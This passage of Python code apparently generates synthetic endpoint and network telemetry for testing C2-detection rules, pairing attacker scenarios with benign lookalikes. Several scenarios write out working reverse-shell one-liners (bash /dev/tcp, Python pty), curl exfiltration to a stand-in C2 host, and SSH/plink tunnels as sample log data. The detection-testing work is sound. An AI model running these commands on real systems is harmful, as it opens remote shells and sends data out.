    rec.esxi_shell(esx, t0 + 650, "root", "nohup python /vmfs/volumes/datastore1/.vmcl/vmsyslog.py "
                   "-p 18098 >/dev/null 2>&1 &")

    guest = Host("fin-db01.corp.example", "10.20.4.31", "windows")
    tools = _vmtoolsd(rec)
    admin = "FIN-DB01\\Administrator"
    rec.windows_process(guest, t0 + 31.2, CMD,
                        'C:\\Windows\\System32\\cmd.exe /c "whoami /all > '
                        'C:\\Windows\\Temp\\vmware-vmsvc-1.log"', admin, parent=tools,
                        integrity="High")
    rec.windows_process(guest, t0 + 35.8, POWERSHELL,
                        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop -c "
                        "\"Compress-Archive D:\\Finance\\Q2 C:\\Windows\\Temp\\q2.zip\"", admin,
                        parent=tools, integrity="High")


@scenario
def benign_esxi_admin(rec, t0):
    """ESXi and guest activity that a naive ESXi or VMware Tools rule raises: VMware Tools'
    power scripts and a backup helper in the guest, an administrator in the host client and
    the ESXi Shell (listing datastores, reading /tmp, running the boot script)."""
    esx = Host("esx02.corp.example", "10.20.9.12", "esxi")
    sid = "52f0e556"
    login = "esxui-8c02-9b39"
    rec.hostd(esx, t0 + 300, "Accepted password for user root from 10.20.1.21 - session=%s-"
              "5be4-83d4-8d71-8f9d8a43791c" % sid, "Vimsvc.HaSessionManager", op_id=login, sid=sid)
    rec.hostd(esx, t0 + 300.01, "Event 99 : User root@10.20.1.21 logged in as Mozilla/5.0 "
              "(Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
              "Chrome/124.0.0.0 Safari/537.36", "Vimsvc.ha-eventmgr", op_id=login, sid=sid)
    for i, command in enumerate(["esxcli system version get", "vim-cmd vmsvc/getallvms",
                                 "ls -la /vmfs/volumes/datastore1/app02",
                                 "cat /tmp/vmware-root/vmware-1.log",
                                 "sh /etc/rc.local.d/local.sh"]):
        rec.esxi_shell(esx, t0 + 400 + 20 * i, "root", command)

    guest = Host("app02.corp.example", "10.20.4.32", "windows")
    tools = _vmtoolsd(rec)
    rec.windows_process(guest, t0 + 12.5, "C:\\Windows\\VeeamVssSupport\\VeeamGuestHelper.exe",
                        '"C:\\Windows\\VeeamVssSupport\\VeeamGuestHelper.exe" --freeze', SYSTEM,
                        parent=tools, integrity="System")
    rec.windows_process(guest, t0 + 900, CMD,
                        'C:\\Windows\\system32\\cmd.exe /c "C:\\Program Files\\VMware\\VMware Tools'
                        '\\poweron-vm-default.bat"', SYSTEM, parent=tools, integrity="System")


@scenario
def fp_esxi_backup_guest_ops(rec, t0):
    """A documented false positive (AN1257): Veeam's application-aware backup drives Guest
    Operations through vCenter (uploads its helper, runs it, lists processes, cleans up).
    hostd logs the account as vpxuser:<vCenter user>; the site's backup account goes into
    c2hunt_esxi_guest_ops_allowlist."""
    esx = Host("esx02.corp.example", "10.20.9.12", "esxi")
    ops = ["Create Temporary File", "Initiate File Transfer To Guest", "Start Program",
           "List Processes", "List Processes", "Delete File"]
    _guest_op_events(rec, esx, t0 + 10, "app02", ops, user="vpxuser:CORP\\svc-veeam",
                     vpxa_user="CORP\\svc-veeam")

def _open_socket(rec, host, when, pid, path, family, protocol, remote=("0.0.0.0", 0),
                 local=("0.0.0.0", 0), state="", cmdline=None, uid=501, parent=None):
    """A process_open_sockets row (the query joins processes for name, path and cmdline, and
    the parent process for its pid and path when ``parent`` = (pid, path) is given)."""
    columns = collections.OrderedDict([
        ("pid", pid), ("name", path.rsplit("/", 1)[-1]), ("path", path),
        ("cmdline", cmdline or path), ("uid", uid), ("fd", 3 + pid % 7),
        ("socket", 1000000 + pid), ("family", family), ("protocol", protocol),
        ("local_address", local[0]), ("local_port", local[1]),
        ("remote_address", remote[0]), ("remote_port", remote[1]), ("state", state)])
    if parent is not None:
        columns["parent"], columns["parent_path"] = parent
    rec.osquery(host, when, "pack_c2hunt_process_open_sockets", columns)


def _socket_event(rec, host, when, pid, path, remote, action="connect", family=2,
                  status="succeeded", auid=501):
    """A socket_events row (audit/OpenBSM-backed): connect or bind by one process."""
    rec.osquery(host, when, "pack_c2hunt_socket_events", collections.OrderedDict([
        ("action", action), ("pid", pid), ("path", path), ("fd", "5"), ("auid", auid),
        ("status", status), ("family", family), ("protocol", 6), ("local_address", ""),
        ("local_port", 0), ("remote_address", remote[0]), ("remote_port", remote[1]),
        ("time", int(when))]))


def _es_exec(rec, host, when, pid, path, cmdline, parent, uid=501):
    """An es_process_events exec row (macOS EndpointSecurity), the query joining the parent's
    path from processes (``parent`` = (pid, path))."""
    rec.osquery(host, when, "pack_c2hunt_es_process_events", collections.OrderedDict([
        ("event_type", "exec"), ("pid", pid), ("path", path), ("cmdline", cmdline),
        ("parent", parent[0]), ("parent_path", parent[1]), ("uid", uid),
        ("signing_id", "com.apple." + path.rsplit("/", 1)[-1]), ("team_id", ""),
        ("platform_binary", 1), ("time", int(when))]))


@scenario
def x5_osquery_raw_socks(rec, t0):
    """macOS and Linux via osquery (AN1256, AN1255's programs): an implant in /private/tmp
    holding a raw ICMP socket and talking to Tor's SOCKS port; scapy (Python) with an
    IPPROTO_RAW socket; netcat through a SOCKS proxy on a Linux server without auditd."""
    mac = Host("mac09.corp.example", "10.20.6.9", "macos")
    implant = "/private/tmp/.softwareupdated"
    _open_socket(rec, mac, t0, 7311, implant, 2, 1, cmdline=implant + " -d")
    _socket_event(rec, mac, t0 + 4, 7311, implant, ("127.0.0.1", 9050))
    _open_socket(rec, mac, t0 + 4, 7311, implant, 2, 6, remote=("127.0.0.1", 9050),
                 local=("127.0.0.1", 51544), state="ESTABLISHED", cmdline=implant + " -d")
    python = "/opt/homebrew/Cellar/python@3.12/3.12.3/Frameworks/Python.framework/Versions/3.12/bin/python3.12"
    _open_socket(rec, mac, t0 + 120, 7420, python, 2, 255,
                 cmdline="python3 icmp_chat.py --peer 203.0.113.77", uid=0)
    lnx = Host("lnx11.corp.example", "10.20.2.31", "linux")
    _socket_event(rec, lnx, t0 + 200, 31877, "/usr/bin/nc.openbsd", ("127.0.0.1", 1080), auid=1002)


@scenario
def benign_osquery_endpoints(rec, t0):
    """What osquery's socket tables show on ordinary macOS and Linux hosts, including what a
    naive raw-socket or SOCKS-port rule raises: ping and traceroute (ICMP and raw sockets),
    Tor Browser and Privoxy on their SOCKS ports, mDNS, NTP, HTTPS."""
    mac = Host("mac20.corp.example", "10.20.6.20", "macos")
    _open_socket(rec, mac, t0, 812, "/sbin/ping", 2, 1, cmdline="ping -c 5 10.20.0.1")
    _open_socket(rec, mac, t0 + 30, 818, "/usr/sbin/traceroute", 2, 255, uid=0,
                 cmdline="traceroute 1.1.1.1")
    _open_socket(rec, mac, t0 + 60, 377, "/usr/sbin/mDNSResponder", 2, 17,
                 local=("0.0.0.0", 5353), uid=65)
    tor_dir = "/Applications/Tor Browser.app/Contents/MacOS/"
    _open_socket(rec, mac, t0 + 90, 5120, tor_dir + "Tor/tor", 2, 6, local=("127.0.0.1", 9150),
                 state="LISTEN")
    _socket_event(rec, mac, t0 + 95, 5101, tor_dir + "firefox", ("127.0.0.1", 9150))
    _open_socket(rec, mac, t0 + 95, 5101, tor_dir + "firefox", 2, 6, remote=("127.0.0.1", 9150),
                 local=("127.0.0.1", 53122), state="ESTABLISHED")
    _open_socket(rec, mac, t0 + 96, 5120, tor_dir + "Tor/tor", 2, 6, remote=("127.0.0.1", 53122),
                 local=("127.0.0.1", 9150), state="ESTABLISHED")
    chrome = ("/Applications/Google Chrome.app/Contents/Frameworks/Google Chrome Framework."
              "framework/Helpers/Google Chrome Helper.app/Contents/MacOS/Google Chrome Helper")
    _open_socket(rec, mac, t0 + 120, 6001, chrome, 2, 6, remote=("142.250.74.110", 443),
                 local=("10.20.6.20", 50112), state="ESTABLISHED")
    lnx = Host("lnx21.corp.example", "10.20.2.41", "linux")
    _open_socket(rec, lnx, t0 + 10, 2210, "/usr/bin/ping", 10, 58, uid=1000,
                 cmdline="ping -6 -c 3 fe80::1%eth0")
    _open_socket(rec, lnx, t0 + 20, 640, "/usr/sbin/chronyd", 2, 17, local=("0.0.0.0", 123),
                 uid=0)
    _socket_event(rec, lnx, t0 + 40, 1404, "/usr/sbin/privoxy", ("127.0.0.1", 9050), auid=0)

@scenario
def x6_user_folder_payload_and_tunnels(rec, t0):
    """Programs judged by where they run, not by name: a Meterpreter payload downloaded into
    the user's Downloads folder calling back on TCP 4444, then migrated into the print spooler
    (which never connects outside the network); a Cobalt Strike-style sacrificial rundll32
    started without arguments; plink dropped in Temp forwarding the attacker's RDP session to
    127.0.0.2:3389 over SSH; an implant in /dev/shm on a Linux host (osquery)."""
    ws = Host("ws09.corp.example", "10.20.1.19", "windows")
    user = "CORP\\kim"
    handler = "203.0.113.120"
    payload = rec.windows_process(ws, t0, "C:\\Users\\kim\\Downloads\\invoice_viewer.exe",
                                  '"C:\\Users\\kim\\Downloads\\invoice_viewer.exe"', user)
    rec.windows_connection(ws, payload, t0 + 1.5, "tcp", handler, 4444)
    spooler = rec.windows_service("C:\\Windows\\System32\\spoolsv.exe",
                                  "C:\\Windows\\System32\\spoolsv.exe")
    rec.windows_connection(ws, spooler, t0 + 95.0, "tcp", handler, 4444)
    sacrificial = rec.windows_process(ws, t0 + 200, "C:\\Windows\\System32\\rundll32.exe",
                                      "C:\\Windows\\system32\\rundll32.exe", user,
                                      parent=spooler)
    rec.windows_connection(ws, sacrificial, t0 + 201.0, "tcp", "198.51.100.60", 443)
    plink = rec.windows_process(
        ws, t0 + 400, "C:\\Users\\kim\\AppData\\Local\\Temp\\plink.exe",
        "plink.exe -ssh -P 22 -l tunnel -pw ******** -R 13389:127.0.0.2:3389 203.0.113.121", user)
    rec.windows_connection(ws, plink, t0 + 401.0, "tcp", "203.0.113.121", 22)
    rdp_port = rec.windows_connection(ws, plink, t0 + 430.0, "tcp", "127.0.0.2", 3389,
                                      src="127.0.0.1")
    termsrv = rec.windows_service(SVCHOST, "C:\\Windows\\System32\\svchost.exe -k "
                                  "NetworkService -s TermService",
                                  user="NT AUTHORITY\\NETWORK SERVICE")
    rec.windows_connection(ws, termsrv, t0 + 430.001, "tcp", "127.0.0.2", 3389,
                           src="127.0.0.1", src_port=rdp_port, initiated=False)
    # Terminal Services sees the attacker's session arrive from the host itself
    rec.windows_logon(ws, t0 + 436.0, "CORP\\adm-kim", 10, "127.0.0.1", rdp_port)
    lnx = Host("lnx12.corp.example", "10.20.2.32", "linux")
    implant = "/dev/shm/.kworker"
    _socket_event(rec, lnx, t0 + 500, 40211, implant, ("198.51.100.61", 4444), auid=1003)
    _open_socket(rec, lnx, t0 + 500, 40211, implant, 2, 6, remote=("198.51.100.61", 4444),
                 local=("10.20.2.32", 41822), state="ESTABLISHED", cmdline=implant)


@scenario
def benign_user_folder_software(rec, t0):
    """What the user-writable path, system-process and loopback signals must leave alone:
    software that installs per user into AppData (Teams, Slack, OneDrive, Discord, Zoom,
    Chrome and Google Update, VS Code, GitHub Desktop) or updates from ProgramData (Defender),
    lsass and explorer on their usual connections, an administrator using SSH, PowerShell
    remoting and an admin share on the local host and Remote Desktop through an SSH local
    forward, console and jump-host logons, and the kernel's IPv6 neighbour discovery to
    multicast (which WFP logs as ICMPv6 from System)."""
    ws = Host("ws30.corp.example", "10.20.1.30", "windows")
    user = "CORP\\lena"
    profile = "C:\\Users\\lena\\AppData\\"
    apps = [
        (profile + "Local\\Microsoft\\Teams\\current\\Teams.exe", "52.113.194.132"),
        (profile + "Local\\slack\\app-4.36.140\\slack.exe", "54.230.10.21"),
        (profile + "Local\\slack\\Update.exe", "54.230.10.21"),
        (profile + "Local\\Microsoft\\OneDrive\\OneDrive.exe", "13.107.42.12"),
        (profile + "Local\\Discord\\app-1.0.9030\\Discord.exe", "162.159.135.232"),
        (profile + "Roaming\\Zoom\\bin\\Zoom.exe", "170.114.52.2"),
        (profile + "Local\\Google\\Chrome\\Application\\chrome.exe", "142.250.74.110"),
        (profile + "Local\\Google\\Update\\GoogleUpdate.exe", "142.250.74.110"),
        (profile + "Local\\Programs\\Microsoft VS Code\\Code.exe", "13.107.6.175"),
        (profile + "Local\\GitHubDesktop\\app-3.3.12\\GitHubDesktop.exe", "140.82.112.3"),
    ]
    for n, (image, dest) in enumerate(apps):
        app = rec.windows_process(ws, t0 + 10 * n, image, '"%s"' % image, user)
        for k in range(3):
            rec.windows_connection(ws, app, t0 + 10 * n + 1 + 120 * k, "tcp", dest, 443)
    zoom = rec.windows_service(profile + "Roaming\\Zoom\\bin\\Zoom.exe",
                               '"%sRoaming\\Zoom\\bin\\Zoom.exe"' % profile, user=user)
    rec.windows_connection(ws, zoom, t0 + 300, "udp", "170.114.52.2", 8801)
    defender = rec.windows_service(
        "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24030.9-0\\MsMpEng.exe",
        '"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24030.9-0\\MsMpEng.exe"')
    rec.windows_connection(ws, defender, t0 + 320, "tcp", "20.190.151.7", 443)
    lsass = rec.windows_service("C:\\Windows\\System32\\lsass.exe",
                                "C:\\Windows\\system32\\lsass.exe", pid=712)
    rec.windows_connection(ws, lsass, t0 + 330, "tcp", "10.20.0.10", 389)
    rec.windows_connection(ws, lsass, t0 + 330.2, "tcp", "10.20.0.10", 49668)
    rec.windows_connection(ws, lsass, t0 + 331, "tcp", "20.190.151.70", 443)
    explorer = rec.windows_service("C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE",
                                   user=user, pid=5120)
    rec.windows_connection(ws, explorer, t0 + 340, "tcp", "13.107.21.200", 443)
    admin = "CORP\\adm-lena"
    shell = _cmd_parent(rec, ws, t0 + 400, admin)
    ssh = rec.windows_process(ws, t0 + 401, "C:\\Windows\\System32\\OpenSSH\\ssh.exe",
                              "ssh.exe lena@localhost", admin, parent=shell)
    rec.windows_connection(ws, ssh, t0 + 402, "tcp", "127.0.0.1", 22, src="127.0.0.1")
    # Remote Desktop to a server through an SSH local forward (ssh -L 33389:srv01:3389 via
    # the bastion): mstsc connects to the forwarded port on loopback, not to 3389
    forward = rec.windows_process(ws, t0 + 410, "C:\\Windows\\System32\\OpenSSH\\ssh.exe",
                                  "ssh.exe -L 33389:srv01.corp.example:3389 bastion.corp.example",
                                  admin, parent=shell)
    rec.windows_connection(ws, forward, t0 + 411, "tcp", "10.20.0.5", 22)
    mstsc = rec.windows_process(ws, t0 + 420, "C:\\Windows\\System32\\mstsc.exe",
                                "mstsc.exe /v:127.0.0.1:33389", admin, parent=shell)
    rec.windows_connection(ws, mstsc, t0 + 421, "tcp", "127.0.0.1", 33389, src="127.0.0.1")
    # the user's console logon (Windows records 127.0.0.1 for type 2) and a helpdesk RDP
    # session from a jump host
    rec.windows_logon(ws, t0 + 2, user, 2, "127.0.0.1")
    rec.windows_logon(ws, t0 + 480, "CORP\\helpdesk1", 10, "10.20.1.50", 50122)
    remoting = rec.windows_process(ws, t0 + 440, POWERSHELL,
                                   "powershell.exe -NoExit -Command Enter-PSSession localhost",
                                   admin, parent=shell)
    rec.windows_connection(ws, remoting, t0 + 441, "tcp", "127.0.0.1", 5985, src="127.0.0.1")
    system = rec.windows_service("System", "", pid=4)
    rec.windows_connection(ws, system, t0 + 460, "tcp", "127.0.0.1", 445, src="127.0.0.1")
    link_local = "fe80::1c2a:5d1f:9e3b:7a10"
    for k, group in enumerate(("ff02::1:ff00:1", "ff02::2", "ff02::16", "ff02::1")):
        # ICMPv6 type 135/133/143/136 (neighbour solicitation, router solicitation, MLDv2
        # report, neighbour advertisement) in 5156's port fields; Sysmon logs no ICMP.
        rec.windows_connection(ws, system, t0 + 470 + k, "icmpv6", group, 0, src=link_local,
                               src_port=(135, 133, 143, 136)[k], sysmon=False)


@scenario
def x7_tunnel_tools_and_reverse_shells(rec, t0):
    """Tunnelling tools and reverse shells by command line (issue 15, T1572/T1090, T1059):
    ngrok exposing RDP from Downloads (with its agent's DNS lookup), a renamed chisel client
    opening a reverse SOCKS, a bash /dev/tcp shell and a Python pty one-liner (auditd), an ssh
    remote forward of the Linux host's SSH to an outside server."""
    ws = Host("ws22.corp.example", "10.20.1.22", "windows")
    user = "CORP\\kim"
    parent = _cmd_parent(rec, ws, t0, user)
    rec.windows_process(ws, t0 + 5, "C:\\Users\\kim\\Downloads\\ngrok.exe",
                        "ngrok.exe tcp 3389 --region eu", user, parent=parent)
    rec.zeek_dns(t0 + 6, ws.ip, "10.20.0.53", "connect.ngrok-agent.com", "A",
                 answers=("3.125.102.39",))
    rec.windows_process(ws, t0 + 60, "C:\\ProgramData\\Microsoft\\svchelper.exe",
                        "svchelper.exe client 198.51.100.23:443 R:socks", user, parent=parent)
    lx = Host("lnx22.corp.example", "10.20.2.22", "linux")
    rec.linux_exec(lx, t0 + 120, "/usr/bin/bash",
                   ["bash", "-c", "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1"], uid=33, auid=4294967295)
    rec.linux_exec(lx, t0 + 180, "/usr/bin/python3.11",
                   ["python3", "-c", "import socket,os,pty;s=socket.socket();"
                    "s.connect(('198.51.100.23',443));[os.dup2(s.fileno(),f) for f in (0,1,2)];"
                    "pty.spawn('/bin/bash')"], uid=33, auid=4294967295)
    rec.linux_exec(lx, t0 + 240, "/usr/bin/ssh",
                   ["ssh", "-fN", "-R", "2222:localhost:22", "tunnel@198.51.100.23"], uid=33,
                   auid=4294967295)


@scenario
def benign_tunnels_and_admin_forwards(rec, t0):
    """The quiet counterpart of x7: what administrators and developers type every day with the
    same programs. ssh local forwards and logins from a jump host, netcat port checks, socat
    relaying two sockets (no program on them), cloudflared as a DNS-over-HTTPS proxy, Python's
    HTTP server, PowerShell testing a port, a browser on ngrok's web site."""
    jump = Host("jump01.corp.example", "10.20.2.30", "linux")
    rec.linux_exec(jump, t0, "/usr/bin/ssh",
                   ["ssh", "-l", "admin", "-L", "5432:db01.corp.example:5432", "bastion.corp.example"])
    rec.linux_exec(jump, t0 + 30, "/usr/bin/ssh", ["ssh", "-l", "admin", "app01.corp.example"])
    rec.linux_exec(jump, t0 + 60, "/usr/bin/nc", ["nc", "-zv", "db01.corp.example", "5432"])
    rec.linux_exec(jump, t0 + 90, "/usr/bin/socat",
                   ["socat", "TCP-LISTEN:8080,fork,reuseaddr", "TCP:app01.corp.example:80"])
    rec.linux_exec(jump, t0 + 120, "/usr/bin/python3.11", ["python3", "-m", "http.server", "8000"])
    ws = Host("ws23.corp.example", "10.20.1.23", "windows")
    user = "CORP\\lena"
    parent = _cmd_parent(rec, ws, t0, user)
    rec.windows_process(ws, t0 + 10, "C:\\Program Files (x86)\\cloudflared\\cloudflared.exe",
                        "cloudflared.exe proxy-dns --port 5053", user, parent=parent)
    rec.windows_process(ws, t0 + 20, POWERSHELL,
                        "powershell.exe -Command Test-NetConnection sql01.corp.example -Port 1433",
                        user, parent=parent)
    rec.zeek_dns(t0 + 30, ws.ip, "10.20.0.53", "ngrok.com", "A", answers=("54.161.241.46",))
    rec.zeek_dns(t0 + 31, ws.ip, "10.20.0.53", "dashboard.ngrok.com.cdn.cloudflare.net", "A",
                 answers=("104.18.1.1",))


@scenario
def x8_vmci_backdoor_sockets(rec, t0):
    """VMCI/vsock backdoors (AN1257) on a Linux hypervisor host that runs VMware's stack
    (ESXi-like: vmtoolsd and VMware's helpers hold vsock sockets there by design), seen by
    the c2sockets input: a VIRTUALPITA-style implant named vmtoolsd but run from /tmp,
    listening on vsock port 18098 for the guests; a VIRTUALPIE-style Python backdoor
    listening on vsock; socat (a packaged relay) holding a vsock connection to a guest. The
    genuine vmtoolsd and VGAuthService on the same host stay quiet, and so does tcpdump."""
    host = Host("vmhost01.corp.example", "10.20.9.21", "linux")
    tools = rec.linux_daemon("/usr/bin/vmtoolsd", ["/usr/bin/vmtoolsd"], uid=0)
    rec.held_socket(host, tools, _vsock("established", 976, 2, 976, local_cid=3), t0, t0 + 900,
                    package="open-vm-tools")
    vgauth = rec.linux_daemon("/usr/bin/VGAuthService", ["/usr/bin/VGAuthService", "-s"], uid=0)
    rec.held_socket(host, vgauth, _vsock("listen", 1021), t0, t0 + 900, package="open-vm-tools")
    shell = rec.linux_daemon("/usr/bin/bash", ["-bash"], uid=0)
    implant = rec.linux_exec(host, t0 + 100, "/tmp/vmtoolsd", ["/tmp/vmtoolsd", "-p", "18098"],
                             uid=0, auid=0, ppid=shell["pid"])
    rec.held_socket(host, implant, _vsock("listen", 18098), t0 + 120, t0 + 900)
    python = rec.linux_exec(host, t0 + 200, "/usr/bin/python3.10",
                            ["python3", "/usr/lib/vmware/.vmcl/vmsyslogd.py", "-p", "8888"],
                            uid=0, auid=0, ppid=shell["pid"])
    rec.held_socket(host, python, _vsock("listen", 8888), t0 + 240, t0 + 900,
                    package="python3.10-minimal")
    relay = rec.linux_exec(host, t0 + 300, "/usr/bin/socat",
                           ["socat", "VSOCK-CONNECT:15:22", "TCP-LISTEN:2222,fork"],
                           uid=0, auid=0, ppid=shell["pid"])
    rec.held_socket(host, relay, _vsock("established", 40022, 15, 22, local_cid=2), t0 + 300,
                    t0 + 900, package="socat")
    tcpdump = rec.linux_daemon("/usr/bin/tcpdump", ["tcpdump", "-ni", "any", "-w", "/tmp/a.pcap"])
    rec.held_socket(host, tcpdump, SNIFFER_SOCKET, t0, t0 + 900, package="tcpdump")


@scenario
def benign_hypervisor_agents(rec, t0):
    """What holds vsock sockets on ordinary virtual machines and must not raise AN1257:
    VMware Tools in a VMware guest, systemd's vsock listener for ssh (systemd 256+) and the
    QEMU guest agent on a KVM guest, the Kata agent in a sandbox VM; ping and tcpdump for
    the raw and packet socket search (AN1255)."""
    vm = Host("app40.corp.example", "10.20.4.40", "linux")
    tools = rec.linux_daemon("/usr/bin/vmtoolsd", ["/usr/bin/vmtoolsd"], uid=0)
    rec.held_socket(vm, tools, _vsock("established", 980, 2, 976, local_cid=1040), t0, t0 + 600,
                    package="open-vm-tools")
    kvm = Host("app41.corp.example", "10.20.4.41", "linux")
    systemd = rec.linux_daemon("/usr/lib/systemd/systemd", ["/sbin/init"], uid=0, pid=1)
    rec.held_socket(kvm, systemd, _vsock("listen", 22), t0, t0 + 600, package="systemd")
    agent = rec.linux_daemon("/usr/bin/qemu-ga", ["/usr/bin/qemu-ga", "--method=vsock-listen"])
    rec.held_socket(kvm, agent, _vsock("listen", 1234), t0, t0 + 600, package="qemu-guest-agent")
    ping = rec.linux_daemon("/usr/bin/ping", ["ping", "10.20.0.1"], uid=1000)
    rec.held_socket(kvm, ping, ICMP_DATAGRAM_SOCKET, t0 + 60, t0 + 300, package="iputils-ping")
    tcpdump = rec.linux_daemon("/usr/bin/tcpdump", ["tcpdump", "-i", "eth0"])
    rec.held_socket(kvm, tcpdump, SNIFFER_SOCKET, t0 + 60, t0 + 300, package="tcpdump")
    sandbox = Host("kata07.corp.example", "10.20.4.47", "linux")
    kata = rec.linux_daemon("/usr/bin/kata-agent", ["/usr/bin/kata-agent"], uid=0)
    rec.held_socket(sandbox, kata, _vsock("listen", 1024), t0, t0 + 600)


@scenario
def x8_unix_scripted_app_c2(rec, t0):
    """Application-layer C2 scripted with the tools every Unix host has (AN1226, AN1227): a
    Python implant in /tmp polling its HTTPS listener on 8443 every minute and uploading
    archives (Sysmon for Linux through syslog, and the Zeek sensor's conn.log); a bash /dev/tcp reverse shell and a Perl IRC bot run from /var/tmp
    (auditd); on a Mac, an Automator application whose shell step runs curl against its
    server every 30 s (osquery es_process_events and socket_events, and process_open_sockets
    with the parent)."""
    lnx = Host("lnx31.corp.example", "10.20.2.51", "linux")
    implant = rec.linux_sysmon_process(lnx, t0, "/usr/bin/python3.11",
                                       "python3 /tmp/.X11-cache/update.py", "www-data")
    for beat in range(20):
        # check-ins fetch a small task; every fifth one uploads a collected archive
        upload = 900000 if beat % 5 == 4 else rec.rng.randint(700, 900)
        rec.linux_sysmon_connection(lnx, implant, t0 + 2 + 60.0 * beat + rec.rng.uniform(-6, 6),
                                    "tcp", "198.51.100.71", 8443,
                                    zeek={"service": "ssl", "duration": 0.8,
                                          "orig_bytes": upload,
                                          "resp_bytes": rec.rng.randint(300, 500)})
    shell_host = Host("lnx32.corp.example", "10.20.2.52", "linux")
    shell = rec.linux_exec(shell_host, t0 + 30, "/usr/bin/bash",
                           ["bash", "-c", "exec 5<>/dev/tcp/upd.example-c2.net/443; cat <&5 | bash >&5"],
                           uid=33, auid=4294967295)
    # bash resolves the redirection's host name itself (glibc connects its UDP socket to the
    # resolver), then connects to the handler
    rec.linux_connect(shell_host, t0 + 30.005, shell, RESOLVER, 53)
    rec.linux_connect(shell_host, t0 + 30.01, shell, "203.0.113.90", 443)
    bot = rec.linux_exec(shell_host, t0 + 90, "/usr/bin/perl", ["perl", "/var/tmp/.ircd/bot.pl"],
                         uid=33, auid=4294967295)
    rec.linux_connect(shell_host, t0 + 90.2, bot, "198.51.100.73", 6667)
    mac = Host("mac33.corp.example", "10.20.6.33", "macos")
    stub = ("/Users/ana/Downloads/Invoice Viewer.app/Contents/MacOS/Automator Application Stub")
    for beat in range(12):
        when = t0 + 40 + 30.0 * beat + rec.rng.uniform(-2, 2)
        pid = 8800 + 3 * beat
        _es_exec(rec, mac, when - 0.05, pid, "/usr/bin/curl",
                 "curl -s -X POST --data-binary @- https://198.51.100.72/api/v2/sync",
                 parent=(8790, stub))
        _socket_event(rec, mac, when, pid, "/usr/bin/curl", ("198.51.100.72", 443))
        if beat == 0:
            _open_socket(rec, mac, when + 0.2, pid, "/usr/bin/curl", 2, 6,
                         remote=("198.51.100.72", 443), local=("10.20.6.33", 52011),
                         state="ESTABLISHED", parent=(8790, stub),
                         cmdline="curl -s -X POST --data-binary @- https://198.51.100.72/api/v2/sync")


@scenario
def benign_unix_scripted_tools(rec, t0):
    """The quiet counterpart of x8: the same tools doing everyday work. pip and curl fetching
    from outside servers on 443 (a few irregular connections), a Python monitoring agent
    reporting every 15 s to the internal collector on 8443, Azure's Linux agent (Python)
    polling the WireServer, a curl health-check loop against an internal service (its name
    lookups go to a public resolver), netcat checking an internal port
    (Sysmon for Linux, auditd); on a Mac, curl from Terminal, Homebrew fetching bottles and
    mDNSResponder on 5353 multicast (osquery)."""
    lnx = Host("lnx41.corp.example", "10.20.2.61", "linux")
    pip = rec.linux_sysmon_process(lnx, t0, "/usr/bin/python3.11",
                                   "python3 -m pip install --upgrade requests", "dev")
    for k, delay in enumerate((1.0, 1.4, 2.9, 3.1, 7.5)):
        rec.linux_sysmon_connection(lnx, pip, t0 + delay, "tcp", "151.101.0.223", 443)
    curl = rec.linux_sysmon_process(lnx, t0 + 60, "/usr/bin/curl",
                                    "curl -fsSL https://github.com/cli/cli/releases/latest", "dev")
    rec.linux_sysmon_connection(lnx, curl, t0 + 60.3, "tcp", "140.82.112.3", 443)
    agent = rec.linux_sysmon_process(lnx, t0 + 5, "/usr/bin/python3.11",
                                     "python3 /opt/monitoring/agent.py --collector 10.20.0.40:8443",
                                     "monitor")
    for beat in range(60):
        rec.linux_sysmon_connection(lnx, agent, t0 + 6 + 15.0 * beat, "tcp", "10.20.0.40", 8443)
    # on an Azure VM, the Linux agent (Python) polls the WireServer every 10 s
    waagent = rec.linux_sysmon_process(lnx, t0 + 3, "/usr/bin/python3.11",
                                       "python3 -u /usr/sbin/waagent -run-exthandlers", "root")
    for beat in range(40):
        rec.linux_sysmon_connection(lnx, waagent, t0 + 4 + 10.0 * beat, "tcp", "168.63.129.16", 80)
    admin = Host("lnx42.corp.example", "10.20.2.62", "linux")
    nc = rec.linux_exec(admin, t0 + 20, "/usr/bin/nc.openbsd", ["nc", "-zv", "10.20.0.20", "445"])
    rec.linux_connect(admin, t0 + 20.1, nc, "10.20.0.20", 445)
    wget = rec.linux_exec(admin, t0 + 40, "/usr/bin/wget",
                          ["wget", "https://downloads.example.org/tool-1.2.tar.gz"])
    rec.linux_connect(admin, t0 + 40.3, wget, "93.184.216.34", 443)
    # a health check run by a shell loop every minute on a host that resolves through a
    # public resolver: glibc connects curl's UDP socket to 1.1.1.1:53 before each request
    # to the internal service
    for beat in range(15):
        check = rec.linux_exec(admin, t0 + 100 + 60.0 * beat, "/usr/bin/curl",
                               ["curl", "-fsS", "http://app01.corp.example:8080/health"])
        rec.linux_connect(admin, t0 + 100.01 + 60.0 * beat, check, "1.1.1.1", 53)
        rec.linux_connect(admin, t0 + 100.05 + 60.0 * beat, check, "10.20.0.31", 8080)
    mac = Host("mac43.corp.example", "10.20.6.43", "macos")
    _socket_event(rec, mac, t0 + 10, 9101, "/usr/bin/curl", ("140.82.112.3", 443))
    _open_socket(rec, mac, t0 + 10.2, 9101, "/usr/bin/curl", 2, 6, remote=("140.82.112.3", 443),
                 local=("10.20.6.43", 50433), state="ESTABLISHED", parent=(9002, "/bin/zsh"),
                 cmdline="curl -O https://github.com/jqlang/jq/releases/download/jq-1.7/jq-macos-arm64")
    for k, delay in enumerate((100.0, 100.4, 101.9, 130.2)):
        _socket_event(rec, mac, t0 + delay, 9150 + k, "/usr/bin/curl", ("140.82.121.34", 443))
    _open_socket(rec, mac, t0 + 200, 377, "/usr/sbin/mDNSResponder", 2, 17,
                 local=("10.20.6.43", 5353), remote=("224.0.0.251", 5353), uid=65)


def _signature(rec, host, when, path, signed, identifier="", team="", authority=""):
    """A signature-table row for one program (macOS code signing: ``signed`` 0/1, the
    signing identifier, team identifier and leaf authority; ad-hoc signatures have neither a
    team nor an authority)."""
    rec.osquery(host, when, "pack_c2hunt_signature", collections.OrderedDict([
        ("path", path), ("hash_resources", 1), ("arch", "arm64"), ("signed", signed),
        ("identifier", identifier),
        ("cdhash", hashlib.sha1(path.encode()).hexdigest() if signed else ""),
        ("team_identifier", team), ("authority", authority)]))


@scenario
